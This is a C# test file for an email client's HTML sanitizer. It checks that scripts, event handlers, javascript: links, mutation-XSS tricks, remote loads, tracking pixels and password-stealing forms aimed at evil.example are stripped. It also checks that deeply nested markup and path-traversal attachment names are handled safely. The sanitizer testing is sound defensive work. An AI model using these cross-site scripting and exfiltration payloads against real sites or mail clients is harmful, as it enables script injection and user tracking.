using System.Diagnostics;
using System.Text;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using OptOut.App.Accounts;
using OptOut.App.Common;
using OptOut.App.Inbox;
using OptOut.App.Tests.Support;

namespace OptOut.App.Tests.Inbox;

public sealed class SafeHtmlTests
{
    private static readonly string[] Elements =
    [
        "html", "head", "meta", "title", "style", "body", "p", "br", "div", "span", "b", "strong", "i", "em", "u", "s", "small", "sub", "sup", "ul", "ol", "li", "dl", "dt", "dd", "blockquote", "pre", "code",
        "h1", "h2", "h3", "h4", "h5", "h6", "hr", "table", "caption", "thead", "tbody", "tfoot", "tr", "td", "th", "img",
    ];

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<SCRIPT SRC=//evil.example/x.js></SCRIPT>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<svg/onload=alert(1)>")]
    [InlineData("<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>")]
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>")]
    [InlineData("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
    [InlineData("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>")]
    [InlineData("<xmp><img alt='</xmp><img src=x onerror=alert(1)>'></xmp>")]
    [InlineData("<textarea><img alt='</textarea><img src=x onerror=alert(1)>'></textarea>")]
    [InlineData("<a href='javascript:alert(1)'>click</a>")]
    [InlineData("<a href='java\tscript:alert(1)'>click</a><a href='data:text/html,<script>alert(1)</script>'>x</a>")]
    [InlineData("<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>")]
    [InlineData("<base href='https://evil.example/'><link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content='0;url=https://evil.example'>")]
    [InlineData("<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/p.gif)}</style>")]
    [InlineData("<p style=\"background:url('https://evil.example/p.gif')\" onclick=alert(1) class=link id=x>text</p>")]
    [InlineData("<img src=https://evil.example/pixel.gif srcset='https://evil.example/2x.gif 2x' width=1><picture><source srcset=https://evil.example/a></picture>")]
    [InlineData("<video src=https://evil.example/v poster=https://evil.example/p autoplay></video><audio src=https://evil.example/a autoplay></audio>")]
    [InlineData("<form action=https://evil.example><input name=password type=password><button>Send</button></form>")]
    [InlineData("<table background=https://evil.example/b.gif><tr><td background=https://evil.example/c.gif colspan=9999999 rowspan='1 onclick=x'>x</td></tr></table>")]
    [InlineData("<template><script>alert(1)</script></template><dialog open>x</dialog><slot></slot>")]
    [InlineData("<img src='cid:gone' onerror=alert(1)><img src='CID:picture' alt='\"><script>alert(1)</script>'>")]
    [InlineData("<div dir='rtl\" onclick=\"alert(1)'>x</div>")]
    [InlineData("<plaintext><script>alert(1)</script>")]
    [InlineData("<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>")]
    [InlineData("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")]
    public void Nothing_that_runs_or_loads_gets_through(string hostile)
    {
        var safe = SafeHtml.Document($"<p>before</p>{hostile}<p>after</p>", Picture, "p{}")!;
        Check(safe);
        // Reading it again gives the same again: nothing waits to become something else at the second parsing.
        var body = new HtmlParser().ParseDocument(safe).Body!.InnerHtml;
        Check(SafeHtml.Document(body, Picture, "p{}")!);
        Assert.Contains("before", safe, StringComparison.Ordinal);
    }

    [Fact]
    public void Words_lists_and_tables_stay_and_a_link_says_where_it_leads()
    {
        var safe = SafeHtml.Document("<h2>Answer</h2><ul><li>One &amp; <b>two</b></li></ul><table><tr><td colspan=2>x</td></tr></table><a href='https://portal.example/x?a=1&amp;b=2'>Log in to bank.example</a>", _ => null, "");
        Assert.Contains("<h2>Answer</h2><ul><li>One &amp; <b>two</b></li></ul>", safe, StringComparison.Ordinal);
        Assert.Contains("<td colspan=\"2\">x</td>", safe, StringComparison.Ordinal);
        Assert.Contains("Log in to bank.example <span class=\"link\" dir=\"ltr\">[https://portal.example/x?a=1&amp;b=2]</span>", safe, StringComparison.Ordinal);
    }

    [Fact]
    public void Deep_and_dense_HTML_neither_breaks_the_stack_nor_takes_long()
    {
        var deep = string.Concat(Enumerable.Repeat("<div>", 14_000)) + "in" + string.Concat(Enumerable.Repeat("</div>", 14_000));
        Assert.Contains("in", SafeHtml.Document(deep, _ => null, ""), StringComparison.Ordinal);
        Assert.Null(SafeHtml.Document(string.Concat(Enumerable.Repeat("<b><i>", 30_000)), _ => null, ""));
        Assert.Null(SafeHtml.Document(new string('x', 1_000_001), _ => null, ""));
    }

    public static TheoryData<string, string> Nested() => new()
    {
        { "div, closed", Times("<div>", 14_900) + "words" + Times("</div>", 14_900) + " and more" },
        { "div, never closed", Times("<div>", 29_800) + "words<script>alert(1)</script> and more" },
        { "b, never closed", Times("<b>", 29_800) + "words and more" },
        { "b, each another", string.Concat(Enumerable.Range(0, 29_800).Select(i => $"<b id={i}>")) + "words and more" },
        { "b and p, each another", string.Concat(Enumerable.Range(0, 14_900).Select(i => $"<b id={i}><p>")) + "words and more" },
        { "b around many p", string.Concat(Enumerable.Range(0, 190).Select(i => $"<b id={i}>")) + Times("<p>", 29_000) + "words and more" },
        { "tables in cells", Times("<table><tr><td>", 9_900) + "words and more" },
        { "tables, nothing but", Times("<table>", 29_800) + "words and more" },
        { "lists, closed", Times("<ul><li>", 7_400) + "words" + Times("</ul>", 7_400) + " and more" },
        { "unknown elements", Times("<x>", 14_900) + Times("</div>", 14_900) + "words and more" },
        { "b closed in the wrong place", Times("<b><div></b>", 9_900) + "words and more" },
        { "siblings", Times("<p>", 29_800) + "words and more" },
        { "a tag that never ends", Times("<div>", 300) + "words and more" + Times("<a" + new string(' ', 30), 29_000) },
    };

    [Theory]
    [MemberData(nameof(Nested))]
    public void Thirty_thousand_tags_are_shown_in_a_moment_and_what_lies_too_deep_as_its_words(string what, string html)
    {
        var watch = Stopwatch.StartNew();
        var safe = SafeHtml.Document("<p>first</p>" + html, _ => null, "p{}")!;
        // Unbounded, several of them take from half a minute to many minutes.
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), $"{what} took {watch.Elapsed}.");
        Check(safe);
        var body = new HtmlParser().ParseDocument(safe).Body!;
        Assert.Equal("first words and more", string.Join(' ', body.TextContent.Replace("first", "first ", StringComparison.Ordinal).Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries)));
        Assert.All(body.QuerySelectorAll("*"), element => Assert.InRange(element.Ancestors().Count(), 0, 110));
    }

    [Fact]
    public async Task A_message_s_own_pictures_are_written_anew_and_shown_and_foreign_ones_are_not_fetched()
    {
        await using var installation = await TestInstallation.OpenAsync();
        var jpeg = Pictures.Jpeg();
        var raw = Encoding.Latin1.GetBytes("From: a@b.example\r\nMessage-ID: <h@b.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n"
            + "--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Logo <img src=\"cid:logo@b\" alt=\"us\"><img src=\"https://evil.example/p.gif\" alt=\"them\"></p>\r\n"
            + "--b\r\nContent-Type: image/jpeg; name=\"../../logo<1>.jpg\"\r\nContent-ID: <logo@b>\r\nContent-Transfer-Encoding: base64\r\n\r\n" + Convert.ToBase64String(jpeg) + "\r\n--b--\r\n");
        var id = await installation.Import.TakeAsync(raw, new MessageOrigin(null, null, installation.Clock.GetUtcNow()));
        var contents = installation.Get<MessageContents>();

        var html = await contents.HtmlAsync(installation.Owner, id!);
        Assert.Contains("src=\"data:image/jpeg;base64,", html, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example", html, StringComparison.Ordinal);
        var shown = Convert.FromBase64String(html.Split("base64,")[1].Split('"')[0]);
        Assert.Equal(-1, shown.AsSpan().IndexOf(Encoding.ASCII.GetBytes(Pictures.Secret)));

        using var part = await contents.PartAsync(installation.Owner, id!, "2");
        using var bytes = new MemoryStream();
        await part.Content.CopyToAsync(bytes);
        Assert.Equal(jpeg, bytes.ToArray());
        Assert.Equal("logo_1_.jpg", part.FileName);
        Assert.Equal(shown, (await contents.PictureAsync(installation.Owner, id!, "2"))!.Bytes);
        await Assert.ThrowsAsync<NotFoundException>(() => contents.PartAsync(installation.Owner, id!, "9"));
        await Assert.ThrowsAsync<NotFoundException>(() => contents.HtmlAsync(new UserScope("user:other", "other", false), id!));
    }

    [Fact]
    public async Task A_large_picture_named_ten_thousand_times_is_shown_as_often_as_there_is_room()
    {
        await using var installation = await TestInstallation.OpenAsync();
        byte[] picture = [.. Pictures.Gif(withSecrets: false)[..^1], .. Enumerable.Range(0, 20_000).SelectMany(_ => new byte[] { 0x2C, 0, 0, 0, 0, 2, 0, 2, 0, 0, 2, 3, 0x44, 0x02, 0x05, 0 }), 0x3B];
        var raw = Encoding.Latin1.GetBytes("From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
            + string.Concat(Enumerable.Repeat("<img src=\"cid:p\">", 10_000)) + "<p>the end</p>\r\n--b\r\nContent-Type: image/gif\r\nContent-ID: <p>\r\nContent-Transfer-Encoding: base64\r\n\r\n" + Convert.ToBase64String(picture) + "\r\n--b--\r\n");
        var id = await installation.Import.TakeAsync(raw, new MessageOrigin(null, null, installation.Clock.GetUtcNow()));
        var html = await installation.Get<MessageContents>().HtmlAsync(installation.Owner, id!);
        Assert.InRange(html.Length, 30 * 1024 * 1024, 34 * 1024 * 1024);
        Assert.Contains("the end", html, StringComparison.Ordinal);
    }

    private static string Times(string tag, int count) => string.Concat(Enumerable.Repeat(tag, count));

    private static string? Picture(string id) => id == "picture" ? "data:image/png;base64,AA==" : null;

    private static void Check(string safe)
    {
        var document = new HtmlParser().ParseDocument(safe);
        foreach (var element in document.All)
        {
            Assert.Contains(element.LocalName, Elements);
            Assert.Equal("http://www.w3.org/1999/xhtml", element.NamespaceUri);
            foreach (var attribute in element.Attributes)
            {
                Assert.True(
                    (element.LocalName, attribute.Name) is ("meta", "charset") or (_, "dir") or ("td" or "th", "colspan" or "rowspan") or ("img", "alt")
                    || (element.LocalName == "span" && attribute is { Name: "class", Value: "link" or "picture" })
                    || (element.LocalName == "img" && attribute.Name == "src" && attribute.Value.StartsWith("data:image/", StringComparison.Ordinal)),
                    $"<{element.LocalName} {attribute.Name}={attribute.Value}>");
            }
        }

        Assert.Single(document.QuerySelectorAll("style"));
    }
}
